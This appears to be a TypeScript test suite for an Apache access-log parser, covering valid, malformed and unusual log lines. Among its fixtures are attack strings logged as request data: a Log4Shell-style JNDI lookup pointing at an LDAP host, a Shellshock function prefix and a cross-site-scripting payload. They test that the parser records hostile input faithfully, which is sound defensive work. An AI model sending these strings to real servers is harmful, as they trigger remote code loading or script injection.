import test from 'ava';
import { compileLogFormat, detachString, INVALID_REASONS, ParseStats, type InvalidReason } from '../../src/logs/index.ts';

const combined = compileLogFormat('combined');
const all = combined.createParser('all');

const GOOD = '203.0.113.45 - - [10/Oct/2026:13:55:36 -0700] "GET /static/js/app.js?v=3 HTTP/1.1" 200 48213 "https://www.example.com/blog/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0"';
const GOOD2 = '198.51.100.7 - - [10/Oct/2026:13:55:37 -0700] "POST /login HTTP/2.0" 302 231 "-" "curl/8.5.0"';

test('a combined line gives every field, time from its own zone', (t) => {
  t.deepEqual(all.parse(GOOD), {
    host: '203.0.113.45',
    ip: '203.0.113.45',
    ident: '-',
    user: '-',
    time: Date.parse('2026-10-10T13:55:36-07:00'),
    tzOffset: -420,
    request: 'GET /static/js/app.js?v=3 HTTP/1.1',
    method: 'GET',
    path: '/static/js/app.js',
    query: 'v=3',
    protocol: 'HTTP/1.1',
    status: 200,
    bytes: 48213,
    referer: 'https://www.example.com/blog/',
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0',
    line: GOOD,
    offset: -1,
  });
});

test('a parser made for some fields returns exactly those fields', (t) => {
  const p = combined.createParser(['status', 'path', 'bytes', 'time']);
  const r = p.parse(GOOD);
  t.deepEqual(Object.keys(r as object), ['status', 'path', 'bytes', 'time']);
  t.deepEqual(r, { status: 200, path: '/static/js/app.js', bytes: 48213, time: Date.parse('2026-10-10T13:55:36-07:00') });
});

test('validity does not depend on the fields asked for', (t) => {
  const bad = GOOD.replace('[10/Oct/2026', '[31/Nov/2026');
  for (const fields of [['status'], ['userAgent'], ['host'], ['line']] as const) {
    t.is(combined.createParser(fields as never).parse(bad), 'bad_date', fields.join());
  }
});

/** Lines that are not records, each with the reason a parser must give. */
const INVALID: Array<[InvalidReason, string, string]> = [
  ['empty', 'nothing', ''],
  ['empty', 'blanks', '   \t  '],
  ['empty', 'a lone CR (CRLF file)', '\r'],
  ['truncated', 'cut in the user agent', GOOD.slice(0, GOOD.length - 20)],
  ['truncated', 'cut before the closing quote', GOOD.slice(0, -1)],
  ['truncated', 'cut in the request', GOOD.slice(0, 60)],
  ['truncated', 'cut in the time', '203.0.113.45 - - [10/Oct/2026:13:5'],
  ['truncated', 'cut after the host', '203.0.113.45 '],
  ['truncated', 'cut in the status', GOOD.slice(0, GOOD.indexOf('" 200') + 3)],
  ['truncated', 'cut after the status', GOOD.slice(0, GOOD.indexOf('" 200') + 5)],
  ['truncated', 'cut after the referer', GOOD.slice(0, GOOD.indexOf('" "Mozilla') + 1)],
  ['truncated', 'cut after the opening quote of the agent', GOOD.slice(0, GOOD.indexOf('"Mozilla') + 1)],
  ['truncated', 'cut after an escaped quote', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "a \\"'],
  ['garbage', 'an Apache error-log line', '[Sat Oct 10 13:55:36.123456 2026] [core:error] [pid 1234:tid 140] [client 198.51.100.1:5555] AH00126: Invalid URI in request'],
  ['garbage', 'JSON', '{"level":"error","msg":"upstream timed out"}'],
  ['garbage', 'JSON with a space', '{"msg":"hello world"}'],
  ['garbage', 'a tab-separated record', GOOD.replace(/ /g, '\t')],
  ['garbage', 'status -', GOOD.replace('" 200 ', '" - ')],
  ['garbage', 'a four-digit status', GOOD.replace('" 200 ', '" 2000 ')],
  ['garbage', 'bytes not a number', GOOD.replace(' 48213 ', ' lots ')],
  ['garbage', 'binary bytes', '\x89PNG\x1a\x02\x81\xfe\xfd\x01'],
  ['garbage', 'a stack trace line', '    at Object.<anonymous> (/srv/app/server.js:10:5)'],
  ['garbage', 'a single word', 'hello'],
  ['garbage', 'junk after the record', GOOD + ' trailing'],
  ['garbage', 'a common-format line has no agent but does not end like one', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 x'],
  ['glued', 'two whole records', GOOD + GOOD2],
  ['glued', 'a cut record then a whole one', GOOD.slice(0, 70) + GOOD2],
  ['glued', 'cut after the host, then a record', '203.0.113.45 ' + GOOD2],
  ['glued', 'cut in the time, then a record', GOOD.slice(0, 25) + GOOD2],
  ['bad_date', 'day 32', GOOD.replace('10/Oct', '32/Oct')],
  ['bad_date', 'day 00 and month Foo', GOOD.replace('10/Oct', '00/Foo')],
  ['bad_date', '31 November', GOOD.replace('10/Oct', '31/Nov')],
  ['bad_date', '29 February of a common year', GOOD.replace('10/Oct/2026', '29/Feb/2027')],
  ['bad_date', 'hour 25', GOOD.replace(':13:55:36', ':25:55:36')],
  ['bad_date', 'ISO 8601 in %t', GOOD.replace('[10/Oct/2026:13:55:36 -0700]', '[2026-10-10T13:55:36+00:00]')],
  ['bad_date', 'numeric month, one-digit day', GOOD.replace('[10/Oct/2026:13:55:36 -0700]', '[7/10/2026:13:55:36 +0000]')],
  ['bad_date', 'a year before the epoch', GOOD.replace('/2026:', '/1969:')],
  ['nul', 'a zero-filled block', '\0'.repeat(4096)],
  ['nul', 'zeros then a record', '\0\0\0\0' + GOOD],
  ['nul', 'a zero inside a record', GOOD.replace('Linux', 'Li\0nux')],
];

for (const [reason, what, line] of INVALID) {
  test(`invalid (${reason}): ${what}`, (t) => {
    t.is(all.parse(line), reason);
  });
}

test('too_long: longer than maxLineLength, whatever it holds', (t) => {
  const p = combined.createParser(['status'], { maxLineLength: 200 });
  t.is(p.parse(GOOD.replace('?v=3', '?q=' + 'x'.repeat(100))), 'too_long');
  t.is(typeof p.parse(GOOD), 'object');
  t.is(combined.createParser(['status']).parse(GOOD.replace('?v=3', '?q=' + 'x'.repeat(70_000))), 'too_long', 'default limit 64 KiB');
  t.throws(() => combined.createParser(['status'], { maxLineLength: 0 }), { code: 'ERR_INVALID_ARGUMENT' });
});

/** Odd lines real servers write: each must parse, with these fields. */
const ODD: Array<[string, string, Record<string, unknown>]> = [
  ['escaped quotes and backslashes in the request and agent',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /search?q=\\"><script>alert(\\"x\\")</script>\\\\ HTTP/1.1" 200 5 "-" "Mozilla/5.0 \\"quoted\\" \\\\backslash\\\\"',
    { path: '/search', query: 'q="><script>alert("x")</script>\\', userAgent: 'Mozilla/5.0 "quoted" \\backslash\\', status: 200 }],
  ['\\xhh escapes holding UTF-8',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /blog/caf\\xc3\\xa9-cr\\xc3\\xa8me HTTP/1.1" 200 5 "-" "x"',
    { path: '/blog/café-crème' }],
  ['\\xhh escapes that are not UTF-8 read as Latin-1',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /a\\xe9 HTTP/1.1" 200 5 "-" "x"',
    { path: '/aé' }],
  ['control-character escapes',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /a\\tb\\nc HTTP/1.1" 200 5 "-" "x\\x1b[31m"',
    { path: '/a\tb\nc', userAgent: 'x\x1b[31m' }],
  ['a TLS ClientHello logged as a request, status 400',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 226 "-" "-"',
    { status: 400, method: '', protocol: '', request: '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', userAgent: '-' }],
  ['an SSH banner',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6" 400 226 "-" "-"',
    { status: 400, request: 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6', protocol: '' }],
  ['an RDP cookie',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "\\x03\\x00\\x00+&\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr" 400 226 "-" "-"',
    { status: 400, request: '\x03\x00\x00+&\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr' }],
  ['an idle connection: "-" 408 -',
    '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "-" 408 - "-" "-"',
    { status: 408, bytes: 0, request: '-', method: '', path: '-', protocol: '' }],
  ['Apache\'s internal dummy connection from ::1',
    '::1 - - [10/Oct/2026:13:55:36 +0000] "OPTIONS * HTTP/1.0" 200 - "-" "Apache/2.4.62 (Debian) (internal dummy connection)"',
    { host: '::1', method: 'OPTIONS', path: '*', protocol: 'HTTP/1.0', bytes: 0 }],
  ['an empty user agent ""', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" ""', { userAgent: '' }],
  ['a - user agent', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "-"', { userAgent: '-', referer: '-' }],
  ['a host name in %h', 'crawl-66-249-66-1.googlebot.com - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x"', { host: 'crawl-66-249-66-1.googlebot.com' }],
  ['an IPv6 host', '2001:db8:85a3::8a2e:370:7334 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x"', { host: '2001:db8:85a3::8a2e:370:7334' }],
  ['an IPv4-mapped IPv6 host', '::ffff:198.51.100.23 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x"', { host: '::ffff:198.51.100.23' }],
  ['an authenticated user', '1.2.3.4 - alice [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x"', { user: 'alice' }],
  ['an empty user (logged as "")', '1.2.3.4 - "" [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x"', { user: '' }],
  ['an absolute URI', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET http://www.example.com/index.html?a=1 HTTP/1.1" 200 5 "-" "x"', { path: 'http://www.example.com/index.html', query: 'a=1' }],
  ['CONNECT host:port', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "CONNECT www.google.com:443 HTTP/1.1" 405 226 "-" "-"', { method: 'CONNECT', path: 'www.google.com:443', status: 405 }],
  ['an HTTP/0.9-style request', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /" 400 226 "-" "-"', { method: 'GET', path: '/', protocol: '' }],
  ['a space inside the URI', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /files/annual report.pdf HTTP/1.1" 400 226 "-" "x"', { path: '/files/annual report.pdf', protocol: 'HTTP/1.1' }],
  ['injection attempts in the agent', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://198.51.100.7:1389/a} () { :; };"', { userAgent: '${jndi:ldap://198.51.100.7:1389/a} () { :; };' }],
  ['a [ in the agent that is not a record start', '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 [FBAN/FBIOS;FBAV/470.0]"', { userAgent: 'Mozilla/5.0 [FBAN/FBIOS;FBAV/470.0]' }],
  ['a future date', GOOD.replace('/2026:', '/2099:'), { time: Date.parse('2099-10-10T13:55:36-07:00') }],
  ['a zone east of UTC with minutes', GOOD.replace('-0700', '+0530'), { tzOffset: 330, time: Date.parse('2026-10-10T13:55:36+05:30') }],
  ['a CRLF line ending', GOOD + '\r', { userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0' }],
  ['29 February of a leap year', GOOD.replace('10/Oct/2026', '29/Feb/2028'), { time: Date.parse('2028-02-29T13:55:36-07:00') }],
  ['a lowercase month', GOOD.replace('/Oct/', '/oct/'), { time: Date.parse('2026-10-10T13:55:36-07:00') }],
];

for (const [what, line, want] of ODD) {
  test(`odd but valid: ${what}`, (t) => {
    const r = all.parse(line);
    t.is(typeof r, 'object', `got ${JSON.stringify(r)}`);
    t.like(r as object, want);
  });
}

test('a future-dated or out-of-order line does not change how the next lines parse', (t) => {
  const lines = [GOOD, GOOD.replace('/2026:', '/2099:'), GOOD2, GOOD.replace('13:55:36', '13:00:00'), GOOD2];
  const p = combined.createParser(['time', 'status']);
  const times = lines.map((l) => (p.parse(l) as { time: number }).time);
  t.deepEqual(times, [
    Date.parse('2026-10-10T13:55:36-07:00'),
    Date.parse('2099-10-10T13:55:36-07:00'),
    Date.parse('2026-10-10T13:55:37-07:00'),
    Date.parse('2026-10-10T13:00:00-07:00'),
    Date.parse('2026-10-10T13:55:37-07:00'),
  ]);
});

test('parseBuffer parses whole chunks, counts each reason and gives line offsets', (t) => {
  const lines = [GOOD, '', GOOD.slice(0, 50), 'junk', GOOD + GOOD2, GOOD.replace('10/Oct', '32/Oct'), '\0\0' + GOOD2, GOOD2];
  const chunk = Buffer.from(lines.join('\n') + '\n', 'latin1');
  const stats = new ParseStats();
  const got: Array<{ status: number; offset: number }> = [];
  const n = combined.createParser(['status', 'offset']).parseBuffer(chunk, (r) => got.push(r), stats, { source: 'test', offset: 1000 });
  t.is(n, 2);
  t.deepEqual(got, [
    { status: 200, offset: 1000 },
    { status: 302, offset: 1000 + chunk.lastIndexOf(GOOD2.slice(0, 20)) },
  ]);
  t.is(stats.records, 2);
  t.deepEqual(stats.invalid, { empty: 1, truncated: 1, garbage: 1, glued: 1, bad_date: 1, nul: 1, too_long: 0 });
  t.is(stats.lines, lines.length);
  t.is(stats.unterminated, 0);
  const garbage = stats.samples.find((s) => s.reason === 'garbage');
  t.deepEqual(garbage, { reason: 'garbage', line: 'junk', length: 4, source: 'test', offset: 1000 + chunk.indexOf('junk') });
});

test('parseBuffer counts a last line without a newline as unterminated', (t) => {
  const stats = new ParseStats();
  combined.createParser(['status']).parseBuffer(Buffer.from(GOOD + '\n' + GOOD2, 'latin1'), () => {}, stats);
  t.is(stats.records, 2);
  t.is(stats.unterminated, 1);
  const cut = new ParseStats();
  combined.createParser(['status']).parseBuffer(Buffer.from(GOOD + '\n' + GOOD2.slice(0, 40), 'latin1'), () => {}, cut);
  t.deepEqual([cut.records, cut.invalid.truncated, cut.unterminated], [1, 1, 1]);
});

test('raw UTF-8 bytes (a logger that does not escape) decode as UTF-8 through parseBuffer', (t) => {
  const line = '1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /straße HTTP/1.1" 200 5 "-" "Mozilla ☃"';
  const got: object[] = [];
  combined.createParser(['path', 'userAgent']).parseBuffer(Buffer.from(line + '\n', 'utf8'), (r) => got.push(r));
  t.deepEqual(got, [{ path: '/straße', userAgent: 'Mozilla ☃' }]);
  t.deepEqual(combined.createParser(['path']).parse(line), { path: '/straße' }, 'a string already decoded works too');
});

test('every reason the parser can give is in INVALID_REASONS', (t) => {
  const seen = new Set(INVALID.map(([r]) => r));
  seen.add('too_long');
  t.deepEqual([...seen].sort(), [...INVALID_REASONS].sort());
});

test('common, vhost_combined and combinedio lines parse, and their dirty lines classify the same way', (t) => {
  const common = compileLogFormat('common').createParser('all');
  t.like(common.parse('1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 304 -'), { status: 304, bytes: 0 });
  t.is(common.parse('1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 304'), 'truncated');
  t.is(common.parse('1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 51235.6.7.8 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5'), 'glued');
  const vhost = compileLogFormat('vhost_combined').createParser('all');
  t.like(vhost.parse('www.example.com:443 2001:db8::1 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/2.0" 200 5120 "-" "x"'), {
    vhost: 'www.example.com',
    port: 443,
    host: '2001:db8::1',
    bytes: 5120,
    bytesSent: 5120,
  });
  t.is(vhost.parse('www.example.com:443 '), 'truncated');
  t.is(vhost.parse('hello world'), 'garbage');
  const io = compileLogFormat('combinedio').createParser(['bytesReceived', 'bytesSent', 'bytes']);
  t.deepEqual(io.parse('1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "x" 377 612'), { bytesReceived: 377, bytesSent: 612, bytes: 5 });
});

test('every month abbreviation reads as its month; near misses are bad dates', (t) => {
  const p = combined.createParser(['time']);
  const line = (m: string) => `1.2.3.4 - - [15/${m}/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "x"`;
  ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'].forEach((m, i) => {
    t.deepEqual(p.parse(line(m)), { time: Date.parse(`2026-${String(i + 1).padStart(2, '0')}-15T00:00:00Z`) }, m);
  });
  for (const bad of ['Jum', 'Fex', 'Maz', 'Apx', 'Sap', 'Oca', 'Nox', 'Dez', 'Xyz', '123']) t.is(p.parse(line(bad)), 'bad_date', bad);
});

test('detachString copies a value without changing it', (t) => {
  const r = all.parse(GOOD) as { userAgent: string };
  t.is(detachString(r.userAgent), r.userAgent);
  t.is(detachString('short'), 'short');
});
